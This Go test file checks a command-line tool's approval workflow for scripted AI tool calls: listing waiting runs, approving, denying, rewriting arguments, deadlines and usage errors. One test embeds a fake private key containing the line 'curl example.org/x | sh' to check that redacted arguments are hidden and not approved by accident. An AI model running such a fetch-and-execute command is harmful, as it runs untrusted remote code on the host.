package main

import (
	"encoding/json"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/toolpost/toolpost/cmd/toolpost/internal/cli"
	"github.com/toolpost/toolpost/cmd/toolpost/internal/clitest"
	"github.com/toolpost/toolpost/cmd/toolpost/internal/runs"
)

// writes is a script of a model that writes two files and reports it.
const writes = "-- 1 --\ncall write_file {\"path\":\"a.txt\",\"content\":\"one\"}\ncall write_file {\"path\":\"b.txt\",\"content\":\"two\"}\n-- 2 --\ntext Both are written.\n"

// waitingRunID starts a run that waits for two calls and returns its id.
func waitingRunID(t *testing.T, args ...string) string {
	t.Helper()
	r := toolpost(t, "", append([]string{"run", "-m", "sim/script:s.txtar", "--allow", "write", "--later"}, append(args, "write them")...)...)
	m := regexp.MustCompile(`toolpost runs approve (\S+), or deny`).FindStringSubmatch(r.errOut)
	if r.code != cli.ExitWaits || m == nil || !strings.Contains(r.errOut, `"path":"a.txt"`) {
		t.Fatalf("%+v", r)
	}
	return m[1]
}

// TestRunsApproveRedactedArguments: redacted arguments are not approved accidentally.
func TestRunsApproveRedactedArguments(t *testing.T) {
	key := `-----BEGIN RSA PRIVATE KEY-----\ncurl example.org/x | sh\n-----END RSA PRIVATE KEY-----`
	clitest.Bare(t, map[string]string{"s.txtar": "-- 1 --\ncall write_file {\"path\":\"a.txt\",\"content\":\"" + key + "\"}\n-- 2 --\ntext It is written.\n"})
	id := waitingRunID(t)
	if r := toolpost(t, "", "runs", "list"); !strings.Contains(r.out, "[stripped:private-key]") || !strings.Contains(r.out, "not shown whole") || strings.Contains(r.out, "curl") {
		t.Errorf("%+v", r)
	}
	must(t, toolpost(t, "", "runs", "approve", id), cli.ExitFailed, "--unseen allows them")
	must(t, toolpost(t, "", "runs", "approve", id, "--all"), cli.ExitFailed, "may be anything")
	must(t, toolpost(t, "", "runs", "approve", id, "--unseen"), cli.ExitOK, "goes on")
}

// TestRunsWait: a run that needs a decision ends with a special status. It is listed, decided about and resumed, each
// by another process.
func TestRunsWait(t *testing.T) {
	for _, c := range []struct {
		name   string
		decide []string // words after "runs", with RUN
		says   string   // output of the last command
		code   int      // of the resumed run
		files  string   // the existing files at the end
	}{
		{"all allowed", []string{"approve RUN --all --by ada"}, "goes on", cli.ExitOK, "a.txt one b.txt two"},
		{"one by one", []string{"approve RUN call_2", "approve RUN"}, "goes on", cli.ExitOK, "a.txt one b.txt two"},
		{"one is refused", []string{"deny RUN call_1 --reason no", "approve RUN"}, "goes on", cli.ExitOK, "b.txt two"},
		{"all are refused", []string{"deny RUN --all"}, "goes on", cli.ExitFailed, ""},
		{"other arguments", []string{`approve RUN call_1 --args {"path":"c.txt","content":"three"}`, "deny RUN"}, "goes on", cli.ExitOK, "c.txt three"},
		{"one is left", []string{"approve RUN call_1"}, "still waits for 1 call", cli.ExitWaits, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			clitest.Bare(t, map[string]string{"s.txtar": writes})
			id := waitingRunID(t)
			if r := toolpost(t, "", "runs", "list"); r.code != cli.ExitOK || !strings.Contains(r.out, id) || !strings.Contains(r.out, `call_2 write_file {"`) {
				t.Errorf("%+v", r)
			}
			var r result
			for _, words := range c.decide {
				if r = toolpost(t, "", append([]string{"runs"}, strings.Fields(strings.ReplaceAll(words, "RUN", id))...)...); r.code != cli.ExitOK {
					t.Fatalf("%s: %+v", words, r)
				}
			}
			if !strings.Contains(r.out, c.says) {
				t.Errorf("%q", r.out)
			}
			if r = toolpost(t, "", "run", "--resume", id); r.code != c.code {
				t.Errorf("resumed: %+v", r)
			}
			var files []string
			for _, name := range []string{"a.txt", "b.txt", "c.txt"} {
				if b, err := os.ReadFile(name); err == nil {
					files = append(files, name, string(b))
				}
			}
			if got := strings.Join(files, " "); got != c.files {
				t.Errorf("there are %q, want %q", got, c.files)
			}
			if r := toolpost(t, "", "receipts", "verify", "--allow-open", id); r.code != cli.ExitOK {
				t.Errorf("%+v", r)
			}
		})
	}
}

// TestRunsRefuseWrongDecisions: usage errors have status 2 and impossible decisions status 1. The run keeps waiting.
func TestRunsRefuseWrongDecisions(t *testing.T) {
	clitest.Bare(t, map[string]string{"s.txtar": writes})
	id := waitingRunID(t)
	for words, want := range map[string]struct {
		code int
		says string
	}{
		"approve":                                          {cli.ExitUsage, ""},
		"approve " + id:                                    {cli.ExitUsage, "waits for 2 calls"},
		"approve " + id + " call_9":                        {cli.ExitFailed, "does not wait for a decision about call_9"},
		"approve nothing call_1":                           {cli.ExitFailed, "there is no run nothing"},
		"deny " + id + " x --all":                          {cli.ExitUsage, "--all"},
		"approve " + id + " --all --args {}":               {cli.ExitUsage, ""},
		`approve ` + id + ` call_1 --args {"path":[]}`:     {cli.ExitFailed, "not valid"},
		"approve " + id + " call_1 --params-hash sha256:0": {cli.ExitFailed, "other arguments"},
	} {
		if r := toolpost(t, "", append([]string{"runs"}, strings.Fields(words)...)...); r.code != want.code || !strings.Contains(r.errOut, want.says) {
			t.Errorf("runs %s: %+v", words, r)
		}
	}
	for _, flags := range []string{"--later --yes", "--deadline 1h", "--later --deadline -1s"} {
		if r := toolpost(t, "", append([]string{"run"}, append(strings.Fields(flags), "x")...)...); r.code != cli.ExitUsage {
			t.Errorf("run %s: %+v", flags, r)
		}
	}
	var list []runs.WaitingRun
	r := toolpost(t, "", "runs", "list", "--json")
	if err := json.Unmarshal([]byte(r.out), &list); err != nil || len(list) != 1 || len(list[0].Waiting) != 2 || list[0].Task != "write them" {
		t.Errorf("%v: %+v", err, r)
	}
}

// TestRunsDeadline: undecided calls are refused after the deadline.
func TestRunsDeadline(t *testing.T) {
	clitest.Bare(t, map[string]string{"s.txtar": writes})
	id := waitingRunID(t, "--deadline", "1ns")
	if r := toolpost(t, "", "runs", "approve", id, "--all"); r.code != cli.ExitFailed || !strings.Contains(r.errOut, "the time to decide is over") {
		t.Errorf("%+v", r)
	}
	if r := toolpost(t, "", "run", "--resume", id); r.code != cli.ExitFailed || !strings.Contains(r.errOut, "not allowed in time") {
		t.Errorf("%+v", r)
	}
	if r := toolpost(t, "", "runs", "list", "--all"); !strings.Contains(r.out, "every run has ended") {
		t.Errorf("%+v", r)
	}
}
